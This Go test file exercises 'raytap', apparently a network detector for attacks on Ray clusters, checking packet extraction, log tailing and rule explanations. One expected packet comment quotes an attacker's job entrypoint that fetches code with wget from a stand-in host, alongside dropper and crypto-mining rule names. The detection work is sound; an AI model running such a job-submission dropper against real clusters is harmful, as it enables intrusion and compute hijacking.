	invoke(t, dir, nil, "replay", "--quiet", "--format=json", pcap).expect(t, 0, "", "")
	return dir, pcap
}

// TestExtract: of a capture in which the attack stands between other packets, the attack's come out, with comments at
// the evidence, and raytap finds the same in them.
func TestExtract(t *testing.T) {
	dir, pcap := replayed(t, "shadowray")
	id, uid := finding(t, dir, "jobsubmit/external")
	invoke(t, dir, nil, "extract", "--finding", id, "-o", "job.pcapng", pcap).expect(t, 0, "job.pcapng: 10 packets", "")
	invoke(t, dir, nil, "extract", "--uid", uid, pcap).expect(t, 0, uid+".pcapng: 10 packets", "")
	r := invoke(t, dir, nil, "replay", "--format=json", "job.pcapng")
	r.expect(t, 0, "jobsubmit/external", "")
	if again, _ := finding(t, dir, "jobsubmit/external"); again != id {
		t.Errorf("the finding has another name in its extract: %s, %s", again, id)
	}

	tshark, err := exec.LookPath("tshark")
	if err != nil {
		t.Skip("no tshark here")
	}
	cmd := exec.Command(tshark, "-r", filepath.Join(dir, "job.pcapng"), "-Y", "frame.comment", "-T", "fields", "-e", "frame.comment")
	out, err := cmd.Output()
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"raytap jobsubmit/external (critical): 203.0.113.66 ran a job", "entrypoint = wget -q http://198.51.100.77/", "raytap jobsubmit/dropper", "packet 10 of the capture", "packet 12 of the capture"} {
		if !strings.Contains(string(out), want) {
			t.Errorf("no comment says %q: %s", want, out)
		}
	}
	if n := strings.Count(string(out), "of the capture"); n != 2 {
		t.Errorf("%d packets have comments", n)
	}
}

// TestExtractOfManyFlows: a scan is a finding over many flows.
func TestExtractOfManyFlows(t *testing.T) {
	dir, pcap := replayed(t, "attack-scan")
	id, _ := finding(t, dir, "scan/hosts")
	r := invoke(t, dir, nil, "extract", "--finding="+id, pcap)
	r.expect(t, 0, " packets", "")
	if strings.Contains(r.stdout, ": 0 packets") {
		t.Error(r.stdout)
	}
}

// TestExtractByWhatElseIsKnown: an incident, a Community ID, addresses, times, a filter; and from the logs of a sensor
// alone, which need no settings.
func TestExtractByWhatElseIsKnown(t *testing.T) {
	dir, pcap := replayed(t, "shadowray")
	id, uid := finding(t, dir, "jobsubmit/external")
	row := func(log, column, value string) map[string]any {
		for line := range strings.Lines(read(t, dir, "raytap-logs", log+".log")) {
			var row map[string]any
			if err := json.Unmarshal([]byte(line), &row); err == nil && (value == "" || row[column] == value) {
				return row
			}
		}
		t.Fatalf("no row of %s with %s=%s", log, column, value)
		return nil
	}
	incident, _ := row("incidents", "", "")["incident_id"].(string)
	community, _ := row("conn", "uid", uid)["community_id"].(string)
	for _, c := range []struct{ args, want string }{
		{"--community-id " + community, "10 packets"},
		{"--community-id " + community + " --filter tcp[13]&2!=0", "2 packets"},
		{"--uid " + uid + " --host 203.0.113.66", "10 packets"},
		{"--host 203.0.113.66,10.20.0.10", "10 packets"},
		{"--host 203.0.113.66 --host 10.20.0.0/16", "10 packets"},
		{"--host 203.0.113.66 --from 2026-11-23T16:42:37 --to 2026-11-23T16:42:38.5Z", "10 packets"},
		{"--host 203.0.113.66 --to 2026-11-23T16:42:36Z", "0 packets"},
		{"--incident " + incident, " packets"},
		{"--logs raytap-logs --finding " + id, "10 packets"},
		{"--logs raytap-logs --uid " + uid, "10 packets"},
		{"--logs raytap-logs --community-id " + community, "10 packets"},
		{"--logs raytap-logs --incident " + incident, " packets"},
	} {
		code := 0
		if c.want == "0 packets" {
			code = 1
		}
		r := invoke(t, dir, nil, append(append([]string{"extract", "-o", "x.pcapng"}, strings.Fields(c.args)...), pcap)...)
		if r.code != code || !strings.Contains(r.stdout, "x.pcapng: "+c.want) && !(c.want == " packets" && strings.HasSuffix(r.stdout, " packets\n")) {
			t.Errorf("%s: exit status %d, %s%s", c.args, r.code, r.stdout, r.stderr)
		}
		if strings.Contains(c.args, "--incident") {
			invoke(t, dir, nil, "replay", "--quiet", "--out=again", "x.pcapng")
			for _, rule := range []string{"jobsubmit/external", "payload/executable", "mining/stratum"} {
				if !strings.Contains(read(t, dir, "again", "notice.log"), rule) {
					t.Errorf("%s: no %s in what was extracted", c.args, rule)
				}
			}
		}
	}
	invoke(t, dir, nil, "extract", "--incident", "Inone", pcap).expect(t, 1, "", "there is no incident Inone in")
	invoke(t, dir, nil, "extract", "--logs=raytap-logs", "--finding", "Rnone", pcap).expect(t, 1, "", "there is no finding Rnone in raytap-logs")
	invoke(t, dir, nil, "extract", "--logs=raytap-logs", "--host", "10.0.0.1", pcap).expect(t, 2, "", "--logs is for")
	invoke(t, dir, nil, "extract", "--host", "x", pcap).expect(t, 2, "", "x")
	invoke(t, dir, nil, "extract", "--from", "soon", pcap).expect(t, 2, "", "neither a time")
	invoke(t, dir, nil, "extract", "--filter", "tcp and", pcap).expect(t, 2, "", "tcp and")
}

func TestExtractSaysWhatItCannotFind(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	invoke(t, dir, nil, "extract", "--finding", "Rnone", "a.pcap").expect(t, 1, "", "there is no finding Rnone in a.pcap")
	invoke(t, dir, nil, "extract", "--uid", "Cnone", "a.pcap").expect(t, 1, "", "there is no flow Cnone")
	invoke(t, dir, nil, "extract", "a.pcap").expect(t, 2, "", "one of --finding, --incident")
	invoke(t, dir, nil, "extract", "--finding=a", "--uid=b", "a.pcap").expect(t, 2, "", "one of --finding, --incident")
	invoke(t, dir, nil, "extract", "--finding=a", "-").expect(t, 2, "", "standard input")
	invoke(t, dir, nil, "extract", "--finding=a").expect(t, 2, "", "no capture")
	if files, err := os.ReadDir(dir); err != nil || len(files) != 1 {
		t.Errorf("left behind: %v", files)
	}
}

func TestTailTellsTheLastFindings(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	for _, format := range []string{"zeek", "json"} {
		invoke(t, dir, nil, "replay", "--quiet", "--format", format, "a.pcap").expect(t, 0, "", "")
		r := invoke(t, dir, nil, "tail", "--once", "raytap-logs")
		r.expect(t, 0, "critical  2023-11-14 22:13:20  203.0.113.66 ran a job on the Ray cluster at 10.20.0.10:8265", "")
		if !strings.Contains(r.stdout, ", packet 4]") {
			t.Errorf("%s: %s", format, r.stdout)
		}
		one := invoke(t, dir, nil, "tail", "--once", "-n", "1", "raytap-logs")
		if !strings.Contains(one.stdout, "INCIDENT, closed  203.0.113.66 ran a job") || strings.Contains(one.stdout, "jobsubmit/") || !strings.HasSuffix(r.stdout, strings.TrimPrefix(one.stdout, "times are UTC\n\n")) {
			t.Errorf("%s: -n 1 prints %q", format, one.stdout)
		}
		if medium := invoke(t, dir, nil, "tail", "--once", "--severity=high", "raytap-logs"); strings.Contains(medium.stdout, "medium ") || medium.stdout == "" {
			t.Errorf("%s: --severity=high prints %q", format, medium.stdout)
		}
	}
	invoke(t, dir, nil, "tail", "--once", "none").expect(t, 1, "", "none")
	invoke(t, dir, nil, "tail", "--once", "a.pcap").expect(t, 1, "", "a.pcap is not a directory")
	invoke(t, dir, nil, "tail").expect(t, 2, "", "takes folders")
	invoke(t, dir, nil, "tail", "--severity=bad", "x").expect(t, 2, "", "bad")
}

// TestTailFollows: it waits for a log that is not there yet, tells what comes, and ends when it is told to.
func TestTailFollows(t *testing.T) {
	dir := folder(t, map[string]string{"a.pcap": string(attack(1700000000))})
	if err := os.Mkdir(filepath.Join(dir, "raytap-logs"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(program, "tail", "raytap-logs")
	cmd.Dir = dir
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	invoke(t, dir, nil, "replay", "--quiet", "a.pcap").expect(t, 0, "", "")
	lines := bufio.NewReader(out)
	head, _ := lines.ReadString('\n')
	lines.ReadString('\n')
	line, err := lines.ReadString('\n')
	if err != nil || head != "times are UTC\n" || !strings.Contains(line, "203.0.113.66 ran a job") {
		t.Errorf("%q, %v", line, err)
	}
	cmd.Process.Signal(os.Interrupt)
	if cmd.Wait(); cmd.ProcessState.ExitCode() != 130 {
		t.Errorf("exit status %d", cmd.ProcessState.ExitCode())
	}
}

func TestExplain(t *testing.T) {
	for _, name := range []string{"mining/stratum", "Mining_Stratum", "Raytap::Mining_Stratum"} {
		r := invoke(t, t.TempDir(), nil, "rules", name)
		r.expect(t, 0, "mining/stratum (", "")
		if !strings.Contains(r.stdout, "T1496.001 Resource Hijacking: Compute Hijacking (Impact)") || strings.Contains(r.stdout, "mining/pool") {
			t.Errorf("%s: %s", name, r.stdout)
		}
	}
	two := invoke(t, t.TempDir(), nil, "rules", "mining/stratum", "jobsubmit/external")
	if two.expect(t, 0, "mining/stratum (", ""); !strings.Contains(two.stdout, "jobsubmit/external (") {
		t.Errorf("%s", two.stdout)
	}
	if r := invoke(t, t.TempDir(), nil, "rules", "--explain=mining"); !strings.Contains(r.stdout, "mining/stratum (") || !strings.Contains(r.stdout, "mining/pool (") {
		t.Errorf("%s", r.stdout)
	}
	invoke(t, t.TempDir(), nil, "rules", "--explain=min").expect(t, 2, "", `no rule "min"`)
	invoke(t, t.TempDir(), nil, "rules", "--explain=mining/stratum", "--json").expect(t, 0, `"name": "mining/stratum"`, "")
}
